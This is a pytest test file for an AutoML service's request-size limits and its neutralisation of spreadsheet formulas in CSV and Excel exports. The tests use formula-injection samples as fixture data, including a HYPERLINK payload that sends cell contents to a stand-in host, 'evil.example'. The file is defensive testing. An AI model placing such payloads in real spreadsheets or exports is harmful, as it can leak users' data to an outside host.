"""Request limits and spreadsheet-safe exports (issue 17, points 5 and 6).

- A JSON body over ``max_json_body_bytes`` is answered 413 before it is read whole: at once when Content-Length
  says so, and after at most the limit (plus one chunk) when it is streamed without one.
- Uploads keep their own, larger limit; a body merely labelled multipart cannot dodge the limits.
- One predict request carries at most 10,000 records by default.
- Batch predictions as CSV neutralise text cells a spreadsheet would run as formulas, unless ``?raw=true``;
  numbers (negative ones too) stay numbers. The CLI writes the same way (``--raw`` to opt out).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json

import pandas as pd
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from automl_canvas.config import Settings
from automl_canvas.db import session_scope
from automl_canvas.exports import neutralise_formulas, neutralise_value
from tests.api.records import records_for
from tests.conftest import SAMPLE_DATA
from tests.helpers import users_with_tokens

LIMIT = 4096


@pytest.fixture
def small(settings, engine, project):
    """A server whose JSON limit is 4 KB and upload limit 64 KB, on its own database (no trained world needed)."""
    from apps.api import create_app

    tight = settings.model_copy(update={"max_json_body_bytes": LIMIT, "max_upload_bytes": 64 * 1024})
    with session_scope(engine) as s:
        _users, tokens = users_with_tokens(s, tight, {"ana": ("analyst",)}, "limit tests")  # the project's owner
    app = create_app(tight, engine=engine)
    with TestClient(app, raise_server_exceptions=False) as c:
        yield c, app, {"Authorization": f"Bearer {tokens['ana']}"}, project


def test_defaults_are_8_mb_of_json_and_10000_records():
    defaults = Settings()
    assert defaults.max_json_body_bytes == 8 * 1024 * 1024 and defaults.predict_max_rows == 10_000


def test_a_json_body_over_the_limit_is_413_from_its_content_length(small):
    client, _app, headers, project = small
    body = json.dumps({"decisions_per_month": 1, "decision": "x" * LIMIT}).encode()
    r = client.put(f"/api/v1/projects/{project.id}/business-inputs", content=body,
                   headers={**headers, "Content-Type": "application/json"})
    assert r.status_code == 413, r.text
    err = r.json()["error"]
    assert err["code"] == "payload_too_large" and "over the limit of 0.0 MB" not in err["message"]
    assert "max_json_body_bytes" in err["message"] and err["details"]["limit_bytes"] == LIMIT
    ok = client.put(f"/api/v1/projects/{project.id}/business-inputs", json={"decisions_per_month": 1}, headers=headers)
    assert ok.status_code == 200, ok.text  # under the limit: untouched


def test_a_streamed_body_is_cut_off_after_the_limit_not_read_whole(small):
    """Raw ASGI, chunk by chunk, no Content-Length: the server stops pulling chunks once past the limit."""
    _client, app, headers, project = small
    chunk, chunks = b" " * 1024, 1000  # a 1 MB body of whitespace (valid JSON padding)
    pulled = 0
    sent: list[dict] = []

    async def receive():
        nonlocal pulled
        pulled += 1
        if pulled > chunks:
            return {"type": "http.disconnect"}
        return {"type": "http.request", "body": chunk, "more_body": pulled < chunks}

    async def send(message):
        sent.append(message)

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "PUT", "scheme": "http",
             "path": f"/api/v1/projects/{project.id}/business-inputs", "raw_path": b"", "query_string": b"",
             "root_path": "", "server": ("testserver", 80), "client": ("127.0.0.1", 5000),
             "headers": [(b"host", b"testserver"), (b"content-type", b"application/json"),
                         (b"authorization", headers["Authorization"].encode())]}
    asyncio.run(app(scope, receive, send))
    start = next(m for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    assert start["status"] == 413, body
    assert json.loads(body)["error"]["code"] == "payload_too_large"
    assert pulled <= LIMIT // len(chunk) + 1  # at most the limit plus one chunk was ever read


def test_uploads_keep_their_own_limit_and_multipart_labels_do_not_dodge_it(small):
    client, _app, headers, project = small
    data = (SAMPLE_DATA / "loans.csv").read_bytes()[: 30 * 1024]
    data = data[: data.rfind(b"\n") + 1]
    up = client.post(f"/api/v1/projects/{project.id}/datasets", headers=headers, files={"file": ("loans.csv", data, "text/csv")})
    assert up.status_code != 413 and up.status_code < 500, up.text  # 30 KB: over the JSON limit, under the upload one
    huge = b"--b\r\n" + b"x" * (1_200_000 + 64 * 1024) + b"\r\n--b--\r\n"
    r = client.put(f"/api/v1/projects/{project.id}/business-inputs", content=huge,
                   headers={**headers, "Content-Type": "multipart/form-data; boundary=b"})
    assert r.status_code == 413 and "max_upload_bytes" in r.json()["error"]["message"]


def test_neutralise_formulas_prefixes_text_and_keeps_numbers():
    frame = pd.DataFrame({"note": ["=HYPERLINK(\"http://x\",\"y\")", "+1+1", "@SUM(A1)", "-2+3", "\tcmd", "\rcmd", "plain",
                                   "-42", None, "3-4"],
                          "delta": [-5, -1, 0, 1, 2, 3, 4, 5, 6, 7], "score": [-0.5] * 10,
                          "=bad header": pd.Categorical(["=a", "b"] * 5)})
    safe = neutralise_formulas(frame)
    assert safe["note"].tolist()[:8] == ["'=HYPERLINK(\"http://x\",\"y\")", "'+1+1", "'@SUM(A1)", "'-2+3", "'\tcmd", "'\rcmd",
                                         "plain", "-42"]
    assert pd.isna(safe["note"].iloc[8]) and safe["note"].iloc[9] == "3-4"
    assert safe["delta"].tolist() == frame["delta"].tolist() and safe["delta"].dtype == frame["delta"].dtype
    assert safe["score"].dtype == frame["score"].dtype
    assert list(safe.columns)[-1] == "'=bad header" and safe.iloc[0, 3] == "'=a"
    assert frame["note"].iloc[0].startswith("=")  # the input is not changed
    assert neutralise_value(-3) == -3 and neutralise_value("-3.5e2") == "-3.5e2"


@pytest.mark.slow
def test_more_than_10000_records_are_refused_clearly(client, world):
    one = records_for(client, world, world.approved_id, 1)[0]
    r = client.post(f"/api/v1/model-versions/{world.approved_id}/predict", headers=world.headers("dee"),
                    json={"records": [one] * 10_001})
    assert r.status_code == 422, r.text[:300]
    assert r.json()["error"]["message"].startswith("10,001 records were sent; one request scores at most 10,000.")


def _formula_rows(client, world) -> pd.DataFrame:
    rows = pd.DataFrame(records_for(client, world, world.approved_id, 4))
    rows["note"] = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "@SUM(A1)", "fine"]
    rows["delta"] = [-5, -1, 0, 3]
    return rows


@pytest.mark.slow
def test_batch_csv_neutralises_formulas_unless_raw(client, world):
    rows = _formula_rows(client, world)
    upload = {"file": ("rows.csv", rows.to_csv(index=False).encode(), "text/csv")}
    url = f"/api/v1/model-versions/{world.approved_id}/predict/batch?format=csv"
    r = client.post(url, headers=world.headers("dee"), files=upload)
    assert r.status_code == 200, r.text
    out = list(csv.DictReader(io.StringIO(r.text)))
    assert [o["note"] for o in out] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1+1", "'@SUM(A1)", "fine"]
    assert [o["delta"] for o in out] == ["-5", "-1", "0", "3"]  # numbers stay numbers, negative ones too
    assert all(not o["confidence"].startswith("'") for o in out)
    raw = client.post(url + "&raw=true", headers=world.headers("dee"), files=upload)
    assert raw.status_code == 200
    assert [o["note"] for o in csv.DictReader(io.StringIO(raw.text))] == rows["note"].tolist()


@pytest.mark.slow
def test_cli_predict_writes_neutralised_csv_and_excel(world, tmp_path, monkeypatch, client):
    from automl_canvas.cli import main
    from automl_canvas.config import get_settings

    src = tmp_path / "rows.csv"
    _formula_rows(client, world).to_csv(src, index=False)
    monkeypatch.setenv("AUTOML_CANVAS_HOME", str(world.settings.home))
    monkeypatch.setenv("AUTOML_CANVAS_DATABASE_URL", world.settings.database_url)
    get_settings.cache_clear()
    try:
        for name, extra in (("out.csv", []), ("out.xlsx", []), ("raw.csv", ["--raw"])):
            res = CliRunner().invoke(main, ["--user", "sam", "predict", str(world.approved_id), str(src), "-o",
                                            str(tmp_path / name), *extra])
            assert res.exit_code == 0, res.output
    finally:
        get_settings.cache_clear()
    assert pd.read_csv(tmp_path / "out.csv")["note"].tolist()[:3] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                                                                      "'+1+1", "'@SUM(A1)"]
    from openpyxl import load_workbook

    sheet = load_workbook(tmp_path / "out.xlsx").active
    header = [c.value for c in sheet[1]]
    notes = [row[header.index("note")].value for row in sheet.iter_rows(min_row=2)]
    deltas = [row[header.index("delta")].value for row in sheet.iter_rows(min_row=2)]
    assert notes[:3] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1+1", "'@SUM(A1)"]
    assert deltas == [-5, -1, 0, 3] and all(isinstance(d, int) for d in deltas)
    assert pd.read_csv(tmp_path / "raw.csv")["note"].iloc[1] == "+1+1"
